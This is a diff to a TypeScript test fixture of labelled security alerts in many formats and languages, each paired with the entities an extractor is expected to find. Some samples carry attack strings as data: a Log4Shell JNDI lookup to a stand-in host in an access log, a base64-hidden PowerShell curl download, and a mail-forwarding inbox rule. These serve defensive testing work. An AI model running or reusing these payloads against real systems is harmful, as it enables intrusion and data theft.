@@ -535,6 +535,26 @@ export const LABELLED_ALERTS: readonly LabelledAlert[] = [
     entities: ['incident-id 41878', 'user y.brandt', 'host ng-lt-301', 'ip 203.0.113.161'],
   },
   {
+    format: 'English prose without labels',
+    group: 'prose',
+    content:
+      'Odd logon hours on NG-WS-302 by m.oduya@northgate.example; ng-srv-07.northgate.example then talked to 203.0.113.162 (eu-west-1, utf-8, AES-256).',
+    entities: [
+      'host ng-ws-302',
+      'email m.oduya@northgate.example',
+      'domain northgate.example',
+      'host ng-srv-07',
+      'domain ng-srv-07.northgate.example',
+      'ip 203.0.113.162',
+    ],
+  },
+  {
+    format: 'CEF of a forwarded incident',
+    group: 'log line',
+    content: 'CEF:0|Vend|XDR|2|7|Incident raised|6|externalId=77310 rt=Feb 11 2026 06:01:44',
+    entities: ['incident-id 77310'],
+  },
+  {
     format: 'German prose',
     group: 'prose',
     content:
@@ -544,8 +564,15 @@ export const LABELLED_ALERTS: readonly LabelledAlert[] = [
   {
     format: 'German labels',
     group: 'prose',
-    content: `Benutzer: NORD\\j.hoffmann\nRechner: HH-PC-0414\nQuelle: 10.44.0.14\nZiel: 203.0.113.67\nGeräte-ID: ${DEVICE}`,
-    entities: ['user nord\\j.hoffmann', 'host hh-pc-0414', 'ip 10.44.0.14 source', 'ip 203.0.113.67 destination', `machine-id ${DEVICE}`],
+    content: `Benutzer: NORD\\j.hoffmann\nRechner: HH-PC-0414\nQuelle: 10.44.0.14\nVorfall-Nr.: 5521\nZiel: 203.0.113.67\nGeräte-ID: ${DEVICE}`,
+    entities: [
+      'user nord\\j.hoffmann',
+      'host hh-pc-0414',
+      'ip 10.44.0.14 source',
+      'incident-id 5521',
+      'ip 203.0.113.67 destination',
+      `machine-id ${DEVICE}`,
+    ],
   },
   {
     format: 'Japanese prose',
@@ -681,5 +708,200 @@ export const LABELLED_ALERTS: readonly LabelledAlert[] = [
       processCommandLine: `powershell -c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64('curl http://203.0.113.88/x -o x')}'))"`,
     }),
     entities: ['host hb-ws-13', 'url http://203.0.113.88/x', 'ip 203.0.113.88'],
+  },
+  // The alerts below were written after the rules. In their first run 15 of 22 were correct.
+  {
+    format: 'Suricata',
+    group: 'JSON',
+    content: JSON.stringify({
+      event_type: 'alert',
+      src_ip: '10.7.7.21',
+      src_port: 50123,
+      dest_ip: '198.51.100.121',
+      dest_port: 80,
+      alert: { signature: 'ET TROJAN Checkin', severity: 1 },
+      http: { hostname: 'gate.murkwell.example', url: '/in.php' },
+    }),
+    entities: ['ip 10.7.7.21 source', 'ip 198.51.100.121 destination', 'domain gate.murkwell.example'],
+  },
+  {
+    format: 'identity provider log',
+    group: 'JSON',
+    content: JSON.stringify({
+      actor: { id: '00u1', type: 'User', alternateId: 'b.lowe@harbor.example', displayName: 'Bea Lowe' },
+      client: { ipAddress: '203.0.113.122', userAgent: { rawUserAgent: 'Mozilla/5.0' }, geographicalContext: { city: 'Lima' } },
+      eventType: 'user.session.start',
+      outcome: { result: 'FAILURE' },
+    }),
+    entities: ['email b.lowe@harbor.example actor', 'ip 203.0.113.122 source'],
+  },
+  {
+    format: 'CloudTrail',
+    group: 'JSON',
+    content: JSON.stringify({
+      eventSource: 'iam.amazonaws.com',
+      eventName: 'CreateAccessKey',
+      sourceIPAddress: '203.0.113.123',
+      userIdentity: { type: 'IAMUser', userName: 'deploy-bot', accountId: '111122223333' },
+      requestParameters: { userName: 'backup-admin' },
+    }),
+    entities: ['domain iam.amazonaws.com', 'ip 203.0.113.123 source', 'user deploy-bot', 'user backup-admin'],
+  },
+  {
+    format: 'observables of a case system',
+    group: 'JSON',
+    content: JSON.stringify({
+      title: 'Phish',
+      observables: [
+        { dataType: 'ip', data: '203.0.113.124' },
+        { dataType: 'hostname', data: 'hb-lt-124' },
+        { dataType: 'mail', data: 'x@crowmail.example' },
+      ],
+    }),
+    entities: ['ip 203.0.113.124', 'host hb-lt-124', 'email x@crowmail.example', 'domain crowmail.example'],
+  },
+  {
+    format: 'office audit log',
+    group: 'JSON',
+    content: JSON.stringify({
+      Operation: 'New-InboxRule',
+      UserId: 'c.mbeki@harbor.example',
+      ClientIP: '[2001:db8::125]:50432',
+      Parameters: [{ Name: 'ForwardTo', Value: 'drop@outlet-mail.example' }],
+    }),
+    entities: [
+      'user c.mbeki@harbor.example',
+      'email c.mbeki@harbor.example',
+      'ip 2001:db8::125 source',
+      'email drop@outlet-mail.example',
+      'domain outlet-mail.example',
+    ],
+  },
+  {
+    format: 'chat card with facts',
+    group: 'JSON',
+    content: JSON.stringify({
+      '@type': 'MessageCard',
+      sections: [
+        {
+          facts: [
+            { name: 'Device:', value: 'hb-pc-126' },
+            { name: 'Logged-on user', value: 'HARBOR\\d.finn' },
+          ],
+        },
+      ],
+    }),
+    entities: ['host hb-pc-126', 'user harbor\\d.finn'],
+  },
+  {
+    format: 'alert manager',
+    group: 'JSON',
+    content: JSON.stringify({ alerts: [{ labels: { alertname: 'EgressSpike', instance: 'hb-app-127:9100', severity: 'critical' } }] }),
+    entities: ['host hb-app-127'],
+  },
+  {
+    format: 'firewall syslog in prose',
+    group: 'log line',
+    content:
+      '<166>Jun 03 2026 10:10:10 hb-fw-1 : %ASA-6-302013: Built outbound TCP connection 9 for outside:203.0.113.128/443 to inside:10.8.0.28/51000',
+    entities: ['host hb-fw-1', 'ip 203.0.113.128', 'ip 10.8.0.28'],
+  },
+  {
+    format: 'web server access log',
+    group: 'log line',
+    content:
+      '203.0.113.129 - - [03/Jun/2026:10:10:10 +0000] "GET /?x=$%7Bjndi:ldap://a.murkwell.example/o%7D HTTP/1.1" 200 12 "-" "curl/8.1.2"',
+    entities: ['ip 203.0.113.129', 'domain a.murkwell.example'],
+  },
+  {
+    format: 'logfmt',
+    group: 'log line',
+    content: 'ts=2026-06-03T10:10:10Z level=warn msg="brute force" user=svc_backup src_ip=203.0.113.130 host=hb-vpn-2',
+    entities: ['user svc_backup', 'ip 203.0.113.130 source', 'host hb-vpn-2'],
+  },
+  {
+    format: 'Windows event as text',
+    group: 'log line',
+    content:
+      'An account failed to log on.\r\n\r\nSubject:\r\n\tAccount Name:\t\tHB-DC-3$\r\n\r\nAccount For Which Logon Failed:\r\n\tAccount Name:\t\te.sato\r\n\tAccount Domain:\t\tHARBOR\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tHB-WS-131\r\n\tSource Network Address:\t203.0.113.131\r\n',
+    entities: ['user hb-dc-3$', 'user e.sato', 'host hb-ws-131', 'ip 203.0.113.131 source'],
+  },
+  {
+    format: 'audit log of Linux',
+    group: 'log line',
+    content:
+      'type=USER_LOGIN msg=audit(1780481410.123:99): pid=1 uid=0 acct="f.ivan" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.132 terminal=ssh res=failed',
+    entities: ['user f.ivan', 'ip 203.0.113.132'],
+  },
+  {
+    format: 'Zeek with a header line',
+    group: 'table',
+    content: '#separator \\x09\n#fields\tts\tid.orig_h\tid.resp_h\tquery\n1780481410.1\t10.8.0.33\t203.0.113.133\tkeep.murkwell.example\n',
+    entities: ['ip 10.8.0.33 source', 'ip 203.0.113.133 destination', 'domain keep.murkwell.example'],
+  },
+  {
+    format: 'table aligned with spaces',
+    group: 'table',
+    content: `Host        : hb-srv-34\nUser        : HARBOR\\g.hale\nRemote IP   : 203.0.113.134\nSHA256      : ${SHA256}`,
+    entities: ['host hb-srv-34', 'user harbor\\g.hale', 'ip 203.0.113.134', `hash ${SHA256}`],
+  },
+  {
+    format: 'INI',
+    group: 'markup',
+    content: '[alert]\nname = Beacon\nhostname = hb-pc-135\nusername = h.irwin\n[network]\ndestination_ip = 203.0.113.135\n',
+    entities: ['host hb-pc-135', 'user h.irwin', 'ip 203.0.113.135 destination'],
+  },
+  {
+    format: 'chat message with markup',
+    group: 'prose',
+    content:
+      '*Malware blocked*\n>*Host:* `hb-pc-136`\n>*User:* <mailto:i.jung@harbor.example|i.jung@harbor.example>\n>*File:* `a.exe` (`' +
+      MD5 +
+      '`)',
+    entities: ['host hb-pc-136', 'user i.jung@harbor.example', 'email i.jung@harbor.example', `hash ${MD5}`],
+  },
+  {
+    format: 'Spanish mail forwarded as text',
+    group: 'mail',
+    content:
+      'Reenvío para revisar:\n\nDe: "Banco" <aviso@banco-aviso.example>\nEnviado el: lunes, 1 de junio de 2026 9:00\nPara: Julia Kent <j.kent@harbor.example>\nAsunto: Bloqueo\n\nEntre en hxxp://banco-aviso[.]example/es',
+    entities: [
+      'email aviso@banco-aviso.example sender',
+      'domain banco-aviso.example',
+      'email j.kent@harbor.example recipient',
+      'url http://banco-aviso.example/es',
+    ],
+  },
+  {
+    format: 'Italian prose',
+    group: 'prose',
+    content:
+      "L'utente k.longo ha aperto un allegato sul computer mil-pc-138; l'indirizzo di destinazione: 203.0.113.138. Incidente n. 8812.",
+    entities: ['user k.longo', 'host mil-pc-138', 'ip 203.0.113.138 destination', 'incident-id 8812'],
+  },
+  {
+    format: 'Vietnamese and Indonesian labels',
+    group: 'prose',
+    content: 'Người dùng: l.minh\nMáy tính: han-pc-139\nPengguna: m.putri\nKomputer: jkt-pc-140',
+    entities: ['user l.minh', 'host han-pc-139', 'user m.putri', 'host jkt-pc-140'],
+  },
+  {
+    format: 'Hebrew and Greek labels',
+    group: 'prose',
+    content: 'משתמש: n.levi\nמחשב: tlv-pc-141\nΧρήστης: o.pappas\nΥπολογιστής: ath-pc-142',
+    entities: ['user n.levi', 'host tlv-pc-141', 'user o.pappas', 'host ath-pc-142'],
+  },
+  {
+    format: 'traditional Chinese prose',
+    group: 'prose',
+    content: '使用者 p.chen 在主機 tpe-nb-143 上執行了可疑程式，連線至 203.0.113.143。事件編號：70143',
+    entities: ['user p.chen', 'host tpe-nb-143', 'ip 203.0.113.143', 'incident-id 70143'],
+  },
+  {
+    format: 'JSON in a code block with a question',
+    group: 'prose',
+    content:
+      'Can you check this?\n```json\n{"hostname": "hb-pc-144", "dst": "203.0.113.144"}\n```\nIt belongs to incident INC0044144, thanks.',
+    entities: ['host hb-pc-144', 'ip 203.0.113.144 destination', 'incident-id INC0044144'],
   },
 ];
